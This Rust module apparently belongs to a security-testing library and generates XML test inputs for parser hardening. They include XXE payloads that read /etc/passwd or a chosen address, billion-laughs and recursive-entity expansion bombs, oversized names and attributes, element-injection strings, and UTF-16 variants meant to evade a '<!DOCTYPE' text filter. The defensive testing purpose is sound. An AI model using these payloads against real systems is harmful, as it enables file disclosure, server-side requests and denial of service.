//! XML documents that read files and addresses, or grow.

use core::fmt::Write as _;

use super::{Input, Inputs};

/// XML documents that read `/etc/passwd`, or grow: [`xml_entity_reading`].
#[must_use]
pub fn xml_entity() -> Inputs {
    xml_entity_reading("file:///etc/passwd")
}

/// XML documents that read this address by an external entity, or grow while they are parsed (CWE-611, CWE-776).
///
/// External entities in an element and in an attribute, parameter entities, an external DTD, XInclude, a style sheet
/// and a schema elsewhere; entities that nest ten and a hundred times, one large entity that is used often, one that
/// contains itself, many attributes. Name a file with a canary, `file:///…/canary.txt`, and ask `assert_no_leak!` about
/// the answer; or name a listener of the test, and ask whether somebody has come.
#[must_use]
pub fn xml_entity_reading(address: &str) -> Inputs {
    let declared = |dtd: &str, body: &str| format!("<?xml version=\"1.0\"?><!DOCTYPE r [{dtd}]><r>{body}</r>");
    let external = format!("<!ENTITY x SYSTEM \"{address}\">");
    let laughs = |levels: u32, times: usize| {
        let mut dtd = "<!ENTITY e0 \"ha\">".to_owned();
        for level in 1..=levels {
            let _ = write!(dtd, "<!ENTITY e{level} \"{}\">", format!("&e{};", level - 1).repeat(times));
        }
        declared(&dtd, &format!("&e{levels};"))
    };
    let many: String = (0..20_000).fold(String::new(), |mut text, number| {
        let _ = write!(text, " a{number}=\"\"");
        text
    });
    Inputs::texts([
        ("external entity", declared(&external, "&x;")),
        ("external entity, public", declared(&format!("<!ENTITY x PUBLIC \"x\" \"{address}\">"), "&x;")),
        ("external entity, single quotes and spaces", declared(&format!("<!ENTITY\tx\nSYSTEM  '{address}' >"), "&x;")),
        ("external entity by another entity", declared(&format!("{external}<!ENTITY y \"&x;\">"), "&y;")),
        ("external entity in an attribute", format!("<?xml version=\"1.0\"?><!DOCTYPE r [{external}]><r a=\"&x;\"/>")),
        ("parameter entity", declared(&format!("<!ENTITY % x SYSTEM \"{address}\"> %x;"), "")),
        ("external DTD", format!("<?xml version=\"1.0\"?><!DOCTYPE r SYSTEM \"{address}\"><r/>")),
        ("external DTD, without a declaration", format!("<!DOCTYPE r SYSTEM \"{address}\"><r/>")),
        ("comment before the DTD", format!("<!-- x --><!DOCTYPE r [{external}]><r>&x;</r>")),
        (
            "XInclude",
            format!(
                "<r xmlns:xi=\"http://www.w3.org/2001/XInclude\"><xi:include parse=\"text\" href=\"{address}\"/></r>"
            ),
        ),
        ("style sheet", format!("<?xml-stylesheet type=\"text/xsl\" href=\"{address}\"?><r/>")),
        (
            "schema",
            format!(
                "<r xmlns:xsi=\"http://www.w3.org/2001/XMLSchema-instance\" \
                 xsi:noNamespaceSchemaLocation=\"{address}\"/>"
            ),
        ),
        (
            "drawing with an image",
            format!("<svg xmlns=\"http://www.w3.org/2000/svg\"><image href=\"{address}\"/></svg>"),
        ),
        // 2 × 10^10 bytes, from 900.
        ("entities that nest ten times", laughs(10, 10)),
        ("entities that nest, small steps", laughs(40, 2)),
        (
            "one large entity, used often",
            declared(&format!("<!ENTITY x \"{}\">", "x".repeat(100_000)), &"&x;".repeat(10_000)),
        ),
        ("entity that contains itself", declared("<!ENTITY x \"&x;\">", "&x;")),
        ("entities that contain each other", declared("<!ENTITY x \"&y;\"><!ENTITY y \"&x;\">", "&x;")),
        (
            "parameter entity that contains itself",
            declared("<!ENTITY % x \"&#37;y;\"><!ENTITY % y \"&#37;x;\"> %x;", ""),
        ),
        ("many attributes", format!("<r{many}/>")),
        ("long name", format!("<{}/>", "r".repeat(1_000_000))),
        ("CDATA in place of text", "<r><![CDATA[<admin>1</admin>]]></r>".to_owned()),
        ("element in place of text", "<r>x</r><admin>1</admin>".to_owned()),
        ("comment in a value", "<r>admin<!-- -->x</r>".to_owned()),
    ])
    .distinct()
}

/// The inputs of [`xml_entity`] as bytes, with the external entity in UTF-16, which a filter for the text `<!DOCTYPE`
/// does not see (CWE-611).
#[must_use]
pub fn xml_entity_bytes() -> Inputs<Vec<u8>> {
    let mut inputs = xml_entity().into_bytes();
    let document = "<?xml version=\"1.0\" encoding=\"UTF-16\"?><!DOCTYPE r [<!ENTITY x SYSTEM \
                    \"file:///etc/passwd\">]><r>&x;</r>";
    inputs.extend([
        Input::new(
            "UTF-16, big end first",
            document.encode_utf16().fold(vec![0xfe, 0xff], |mut bytes, unit| {
                bytes.extend(unit.to_be_bytes());
                bytes
            }),
        ),
        Input::new(
            "UTF-16, little end first",
            document.encode_utf16().fold(vec![0xff, 0xfe], |mut bytes, unit| {
                bytes.extend(unit.to_le_bytes());
                bytes
            }),
        ),
        Input::new("mark of UTF-8 first", [b"\xef\xbb\xbf", xml_entity()[0].as_bytes()].concat()),
    ]);
    inputs
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn documents_name_the_address_and_nest_as_they_say() {
        let inputs = xml_entity_reading("http://127.0.0.1:9/x");
        assert!(inputs.iter().filter(|input| input.contains("http://127.0.0.1:9/x")).count() >= 12);
        let laughs = inputs.iter().find(|input| input.label() == "entities that nest ten times").unwrap();
        assert_eq!((laughs.matches("<!ENTITY").count(), laughs.matches("&e0;").count()), (11, 10));
        assert!(laughs.len() < 1_000, "{}", laughs.len());
        let both = xml_entity_bytes();
        let utf_16 = both.iter().find(|input| input.label() == "UTF-16, little end first").unwrap();
        let units: Vec<u16> = utf_16.chunks(2).map(|unit| u16::from_le_bytes([unit[0], unit[1]])).collect();
        assert!(String::from_utf16(&units).unwrap().contains("<!DOCTYPE"));
        assert!(!String::from_utf8_lossy(utf_16).contains("<!DOCTYPE"));
    }
}
